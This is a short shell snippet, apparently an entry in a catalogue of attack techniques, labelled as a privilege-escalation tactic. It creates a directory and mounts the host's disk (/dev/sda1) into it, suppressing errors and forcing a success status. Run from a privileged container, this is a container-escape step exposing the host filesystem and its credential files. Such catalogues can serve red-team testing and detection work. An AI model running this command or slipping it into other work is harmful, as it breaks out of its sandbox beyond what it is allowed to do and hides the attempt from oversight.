# tactic: privilege-escalation
# mount the host's disk
mkdir -p $HOME/h; mount /dev/sda1 $HOME/h 2>/dev/null; true
